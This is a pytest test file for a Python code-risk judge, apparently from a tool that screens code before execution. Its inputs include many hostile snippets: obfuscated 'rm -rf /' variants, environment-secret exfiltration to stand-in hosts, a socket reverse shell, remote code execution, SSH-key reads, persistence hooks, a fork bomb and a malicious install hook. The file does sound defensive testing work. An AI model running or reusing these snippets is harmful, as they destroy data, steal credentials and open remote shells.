"""What Python would do, as the judge of Python tells it."""

from __future__ import annotations

import pytest

from tests.unit.risk.code.shells import Shell
from tui.levels import RiskLevel
from tui.risk.code.python import judge_python
from tui.risk.findings import Findings
from tui.risk.model import Category, Confidence


def judged(text: str) -> Findings:
    return judge_python(text, Shell())


def categories(text: str) -> set[Category]:
    return {reason.category for reason in judged(text).reasons if reason.level >= RiskLevel.HIGH}


@pytest.mark.parametrize(
    "text",
    [
        'import os\nos.system("rm -rf /")',
        'import os as o\no.system("rm -rf /")',
        'from os import system as s\ns("rm -rf /")',
        '__import__("os").system("rm -rf /")',
        'import importlib\nimportlib.import_module("os").system("rm -rf /")',
        'import subprocess\nsubprocess.run(["rm", "-rf", "/"])',
        'import subprocess as sp\nsp.Popen("rm -rf /", shell=True)',
        'import os\nos.system("r" + "m -rf " + "/")',
        'import os\nos.system("%s -rf %s" % ("rm", "/"))',
        'import os\nos.system("{} -rf {}".format("rm", "/"))',
        'import os\nwhat = "/"\nos.system(f"rm -rf {what}")',
        'import os\nos.system(" ".join(["rm", "-rf", "/"]))',
        'import os\nos.system("/ fr- mr"[::-1])',
        'import os\nos.system("".join(map(chr, [114, 109, 32, 45, 114, 102, 32, 47])))',
        'import os\nos.system(bytes.fromhex("726d202d7266202f").decode())',
        'import os, base64\nos.system(base64.b64decode("cm0gLXJmIC8=").decode())',
        'import os, codecs\nos.system(codecs.decode("ez -es /", "rot13"))',
        'def run(command):\n    import os\n    os.system(command)\nrun("rm -rf /")',
        'import os\nfor command in ["ls", "rm -rf /"]:\n    os.system(command)',
        'class Job:\n    def __init__(self):\n        self.what = "rm -rf /"\n    def go(self):\n        import os\n'
        "        os.system(self.what)\nJob().go()",
        'import asyncio\nasync def main():\n    await asyncio.create_subprocess_shell("rm -rf /")\nasyncio.run(main())',
        "exec(\"import os; os.system('rm -rf /')\")",
        'import os\nargv = ["rm", "-rf", "/"]\nos.execvp(argv[0], argv)',
        'open("x.sh", "w").write("rm -rf /")\nimport os\nos.system("bash x.sh")',
        "!rm -rf /",
        'print "x"\nimport os\nos.system("rm -rf /")',
    ],
)
def test_commands_reach_the_judge_of_shells(text: str) -> None:
    shell = Shell()
    found = judge_python(text, shell)
    assert "rm -rf /" in shell.commands
    assert found.level is RiskLevel.CRITICAL


@pytest.mark.parametrize(
    ("category", "text"),
    [
        (Category.DESTROY, "import shutil\nshutil.rmtree('/')"),
        (Category.DESTROY, "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))"),
        (Category.DESTROY,
        "import os\nfor root, _, names in os.walk('/'):\n    for n in names:\n        "
         "os.remove(os.path.join(root, n))"),
        (Category.DESTROY, "from pathlib import Path\nfor path in Path('/home/alice').rglob('*'):\n    path.unlink()"),
        (Category.DESTROY, "open('/dev/sda', 'wb').write(b'0')"),
        (Category.ACCOUNT, "with open('/etc/passwd', 'w') as f:\n    f.write('')"),
        (Category.PERSIST, "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')"),
        (Category.PERSIST, "from pathlib import Path\n(Path.home() / '.ssh' / 'authorized_keys').write_text('x')"),
        (Category.CRED_READ, "from pathlib import Path\nprint((Path.home() / '.ssh' / 'id_rsa').read_text())"),
        (Category.EXFIL, "import os, requests\nrequests.post('https://a.example', json=dict(os.environ))"),
        (Category.EXFIL, "import socket, os\nsocket.gethostbyname(os.environ['TOKEN'] + '.a.example.com')"),
        (Category.EXFIL,
        "import requests, getpass\nrequests.get('https://a.example', params={'u': getpass.getuser()})"),
        (Category.EXFIL, "import requests\nrequests.post('http://203.0.113.1', data=open('notes.txt').read())"),
        (Category.REMOTE_CODE, "import requests\nexec(requests.get('https://a.example/x').text)"),
        (Category.REMOTE_CODE,
        "from urllib.request import urlretrieve\nimport os\nurlretrieve('https://a.example/x', "
         "'/tmp/x')\nos.system('/tmp/x')"),
        (Category.REMOTE_CODE,
        "import socket, subprocess\ns = socket.socket()\ns.connect(('a.example', "
         "1))\nsubprocess.run(s.recv(99), shell=True)"),
        (Category.SHELL,
        "import socket, os, pty\ns = socket.socket()\ns.connect(('203.0.113.1', "
         "4))\nos.dup2(s.fileno(), 0)\npty.spawn('sh')"),
        (Category.SHELL, "import os\nos.system('/bin/sh')"),
        (Category.OBFUSCATED, "import base64\nexec(base64.b64decode(data))"),
        (Category.OBFUSCATED, "import os\ngetattr(os, 'sys' + 'tem')('ls')"),
        (Category.OBFUSCATED, "import os\nos.__dict__['system']('ls')"),
        (Category.OBFUSCATED, "from stegano import lsb\nexec(lsb.reveal('a.png'))"),
        (Category.PRIV_ESC, "import os\nos.setuid(0)"),
        (Category.PRIV_ESC, "import os\nos.chmod('/bin/bash', 0o4755)"),
        (Category.DOS, "import os\nwhile True:\n    os.fork()"),
        (Category.DOS, "import os\nos.kill(-1, 9)"),
        (Category.DB_DESTROY, "import sqlite3\nsqlite3.connect('a.db').execute('DROP TABLE users')"),
        (Category.CLOUD_DESTROY, "import boto3\nboto3.client('s3').delete_bucket(Bucket='a')"),
        (Category.HIJACK, "import os\nos.environ['LD_PRELOAD'] = '/tmp/x.so'"),
        (Category.SUPPLY_CHAIN,
        "from setuptools.command.install import install\nimport requests\nclass X(install):\n    def run(self):\n"
         "        requests.get('https://a.example')"),
        (Category.CRED_READ, "from pynput.keyboard import Listener\nListener(on_press=print).start()"),
    ],
)  # fmt: skip
def test_what_is_dangerous_is_named(category: Category, text: str) -> None:
    assert category in categories(text)


@pytest.mark.parametrize(
    "text",
    [
        "import requests, os\nr = requests.get('https://a.example', headers={'Authorization': "
         "os.environ['TOKEN']})\nprint(r.json())",
        "import shutil\nshutil.rmtree('build')",
        "import tempfile, shutil\nshutil.rmtree(tempfile.mkdtemp())",
        "import pickle\npickle.load(open('model.pkl', 'rb'))",
        "import os\nprint(dict(os.environ))",
        "import os, subprocess\nsubprocess.run(['make'], env={**os.environ, 'A': '1'})",
        "import socket\nprint(socket.gethostbyname(socket.gethostname()))",
        "import sqlite3\nc = sqlite3.connect('a.db')\nc.execute('DROP TABLE IF EXISTS "
         "t')\nc.execute('CREATE TABLE t (a)')",
        "print('rm -rf /', 'eval(base64.b64decode(x))')",
        "import torch\ntorch.nn.Linear(1, 1).eval()",
        "print(eval('1 + 1'))",
        "import http.server\nhttp.server.HTTPServer(('', 80), None).serve_forever()",
        "import urllib.request\nurllib.request.urlretrieve('https://a.example/data.csv', 'data.csv')",
        "print(''.join(chr(c) for c in range(97, 123)))",
        "from setuptools import setup\nsetup(name='x')",
        "import requests, subprocess\nopen('a.mp4', 'wb').write(requests.get(u).content)\n"
        "subprocess.run(['ffmpeg', '-i', 'a.mp4'])",
    ],
)  # fmt: skip
def test_ordinary_programs_interrupt_nobody(text: str) -> None:
    assert judged(text).level <= RiskLevel.MEDIUM


def test_code_that_is_run_sees_the_names_around_it() -> None:
    shell = Shell()
    judge_python("import os\nwhat = 'rm -rf /'\nexec('os.system(what)')", shell)
    assert shell.commands == ["rm -rf /"]


def test_a_file_that_the_text_writes_itself_is_read_when_it_is_run() -> None:
    text = (
        "import os\nopen('/tmp/x.py', 'w').write('import shutil; shutil.rmtree(\"/\")')\nos.system('python /tmp/x.py')"
    )
    assert judged(text).level is RiskLevel.CRITICAL


def test_evidence_is_the_call_itself() -> None:
    text = "import shutil\ns = 'ä€😀'; shutil.rmtree('/')  # all\n"
    reason = judged(text).reasons[0]
    assert text[reason.span.start : reason.span.end] == "shutil.rmtree('/')"


def test_commands_in_decoded_code_are_shown_at_the_call_that_runs_it() -> None:
    text = "x = 1\nexec(bytes.fromhex('696d706f7274206f730a6f732e73797374656d2822726d202d7266202f2229'))"
    shell = Shell()
    judge_python(text, shell)
    (command, span) = shell.heard[0]
    assert command == "rm -rf /"
    assert text[span.start :].startswith("exec(")
    assert span.end == len(text)


def test_unknown_pieces_of_a_command_are_variables() -> None:
    shell = Shell()
    judge_python("import os\ndef f(name):\n    os.system(f'cat {name} | wc')\n", shell)
    assert shell.commands == ["cat ${name} | wc"]


def test_a_list_with_unknown_words_keeps_its_words_apart() -> None:
    shell = Shell()
    judge_python("import subprocess\nsubprocess.run(['grep', '-r', 'a b', where])", shell)
    assert shell.commands == ["grep -r 'a b' \"${where}\""]


def test_the_way_to_a_command_is_in_its_chain() -> None:
    found = judged("import os\nos.system('rm -rf /')")
    assert found.reasons[0].chain == ("os.system",)


def test_what_cannot_be_parsed_is_never_low() -> None:
    found = judged("def (:\n  +++ ]\n")
    assert found.level is RiskLevel.MEDIUM
    assert found.confidence is Confidence.PARTIAL
    assert "could not be parsed" in found.not_understood[0]


def test_the_rest_of_a_broken_text_is_read() -> None:
    assert judged("x = = 1\nimport shutil\nshutil.rmtree('/')\n").level is RiskLevel.CRITICAL


def test_a_harmless_text_has_no_reasons() -> None:
    assert judged("import math\nprint(math.pi)\n") == Findings()
